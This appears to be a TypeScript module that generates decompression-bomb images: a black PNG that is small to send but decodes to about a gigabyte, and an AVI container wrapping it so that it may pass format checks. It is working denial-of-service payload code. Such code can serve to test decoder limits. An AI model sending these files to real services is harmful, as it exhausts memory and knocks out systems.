/** Pictures that are small to send and huge to decode. */
import { crc32, constants, deflateRawSync } from 'node:zlib';

const BLOCK = 1 << 20;

/** A deflate stream of so many zeros, without ever having them in memory. */
function zeros(count: number): Buffer {
  const block = deflateRawSync(Buffer.alloc(BLOCK), { finishFlush: constants.Z_FULL_FLUSH });
  const blocks = Array.from({ length: Math.floor(count / BLOCK) }, () => block);
  const rest = deflateRawSync(Buffer.alloc(count % BLOCK));
  // Adler-32 of zeros (RFC 1950 §8.2): the first sum stays 1, the second is their number.
  const sum = Buffer.alloc(4);
  sum.writeUInt16BE(count % 65_521, 0);
  sum.writeUInt16BE(1, 2);
  return Buffer.concat([Buffer.from([0x78, 0x9c]), ...blocks, rest, sum]);
}

function pngChunk(type: string, content: Buffer): Buffer {
  const typed = Buffer.concat([Buffer.from(type, 'latin1'), content]);
  const ends = Buffer.alloc(8);
  ends.writeUInt32BE(content.length, 0);
  ends.writeUInt32BE(crc32(typed), 4);
  return Buffer.concat([ends.subarray(0, 4), typed, ends.subarray(4)]);
}

/** A black PNG (third edition §11) of 8-bit RGBA with both sides so long; 16000: 1 MB sent, 1 GB decoded. */
export function hugePng(side: number): Buffer {
  const header = Buffer.alloc(13);
  header.writeUInt32BE(side, 0);
  header.writeUInt32BE(side, 4);
  header.set([8, 6], 8);
  const signature = Buffer.from('\x89PNG\r\n\x1a\n', 'latin1');
  const chunks = [
    pngChunk('IHDR', header),
    pngChunk('IDAT', zeros(side * (1 + 4 * side))),
    pngChunk('IEND', Buffer.alloc(0)),
  ];
  return Buffer.concat([signature, ...chunks]);
}

function riff(type: string, ...parts: (Buffer | string)[]): Buffer {
  const content = Buffer.concat(parts.map((part) => (typeof part === 'string' ? Buffer.from(part, 'latin1') : part)));
  const head = Buffer.alloc(8);
  head.write(type, 'latin1');
  head.writeUInt32LE(content.length, 4);
  return Buffer.concat([head, content, Buffer.alloc(content.length % 2)]);
}

function words(...values: number[]): Buffer {
  const bytes = Buffer.alloc(values.length * 4);
  values.forEach((value, at) => bytes.writeUInt32LE(value, at * 4));
  return bytes;
}

/** The PNG as the pictures of an AVI, a container that may be taken in. */
export function hugeAvi(side: number): Buffer {
  const png = hugePng(side);
  const four = (text: string): number => Buffer.from(text, 'latin1').readUInt32LE();
  const main = words(40_000, 0, 0, 0x10, 1, 0, 1, png.length, side, side, 0, 0, 0, 0);
  const stream = words(four('vids'), four('MPNG'), 0, 0, 0, 1, 25, 0, 1, png.length, 0xffffffff, 0, 0, 0);
  const format = words(40, side, side, 1 | (32 << 16), four('MPNG'), side * side * 4, 0, 0, 0, 0);
  const header = riff(
    'LIST',
    'hdrl',
    riff('avih', main),
    riff('LIST', 'strl', riff('strh', stream), riff('strf', format)),
  );
  return riff('RIFF', 'AVI ', header, riff('LIST', 'movi', riff('00dc', png)));
}
